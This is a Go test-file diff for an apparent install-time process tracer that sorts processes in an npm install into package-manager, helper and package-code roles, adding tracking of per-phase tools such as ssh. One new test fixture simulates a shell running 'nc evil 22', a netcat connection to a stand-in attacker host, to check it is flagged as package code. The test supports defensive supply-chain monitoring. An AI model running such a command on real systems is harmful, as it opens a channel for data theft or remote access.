@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
 	"strings"
 	"testing"
 )
@@ -132,6 +133,7 @@ func TestTableRoles(t *testing.T) {
 		ev(KindExec, 10, 1, "node", "/usr/bin/node", "node", "/usr/bin/npm", "install"),
 	}
 	meta := []PhaseInfo{{Name: "install", Init: ProcKey{TGID: 1, Start: 1}, Command: RolePackageManager}}
+	tools := []PhaseInfo{{Name: "install", Init: ProcKey{TGID: 1, Start: 1}, Command: RolePackageManager, Tools: []string{"/usr/bin/ssh"}}}
 	tests := []struct {
 		name   string
 		phases []PhaseInfo
@@ -171,6 +173,16 @@ func TestTableRoles(t *testing.T) {
 		{"no metadata: first exec", nil, init, 1, RolePackageManager, WhyCommand},
 		{"metadata without init: first exec", []PhaseInfo{{Name: "install", Command: RolePackageCode}}, init[2:4],
 			10, RolePackageCode, WhyCommand},
+		{"a phase's tool stays", tools, append(init[:4:4],
+			fork(10, 1, 11, "node"), ev(KindExec, 11, 10, "ssh", "/usr/bin/ssh", "ssh", "git@host")),
+			11, RolePackageManager, WhyHelper},
+		{"a phase's tool's script is package code", tools, append(init[:4:4],
+			fork(10, 1, 11, "node"), ev(KindExec, 11, 10, "ssh", "/usr/bin/ssh", "ssh", "git@host"),
+			fork(11, 10, 12, "ssh"), ev(KindExec, 12, 11, "sh", "/bin/sh", "sh", "-c", "nc evil 22")),
+			12, RolePackageCode, WhyScript},
+		{"another phase's tool is package code", meta, append(init[:4:4],
+			fork(10, 1, 11, "node"), ev(KindExec, 11, 10, "ssh", "/usr/bin/ssh", "ssh", "git@host")),
+			11, RolePackageCode, WhyScript},
 		{"no metadata: before the first exec", nil, []Event{ev(KindOpen, 1, 0, "runc:[2:INIT]", "/proc/self/fd")},
 			1, RoleRuntime, WhyBefore},
 	}
@@ -216,7 +228,7 @@ func TestTableIncremental(t *testing.T) {
 }
 
 func TestTraceRecordsRoundTrip(t *testing.T) {
-	tr := &Trace{Phases: []PhaseInfo{{Name: "install", Init: ProcKey{TGID: 1, Start: 1}, Command: RolePackageManager}}}
+	tr := &Trace{Phases: []PhaseInfo{{Name: "install", Init: ProcKey{TGID: 1, Start: 1}, Command: RolePackageManager, Tools: []string{"/usr/bin/ssh"}}}}
 	tr.Append("install", []Event{ev(KindExec, 10, 1, "npm", "/usr/bin/npm", "npm", "install")})
 	tr.Processes = BuildTable(tr, testPolicy).Processes()
 	var buf bytes.Buffer
@@ -227,7 +239,7 @@ func TestTraceRecordsRoundTrip(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(got.Events) != 1 || len(got.Phases) != 1 || got.Phases[0] != tr.Phases[0] {
+	if len(got.Events) != 1 || len(got.Phases) != 1 || !reflect.DeepEqual(got.Phases[0], tr.Phases[0]) {
 		t.Fatalf("decoded %d events, phases %v; want 1 event and %v", len(got.Events), got.Phases, tr.Phases)
 	}
 	if len(got.Processes) != 1 || got.Processes[0].Role != RolePackageManager || !got.Processes[0].Main {
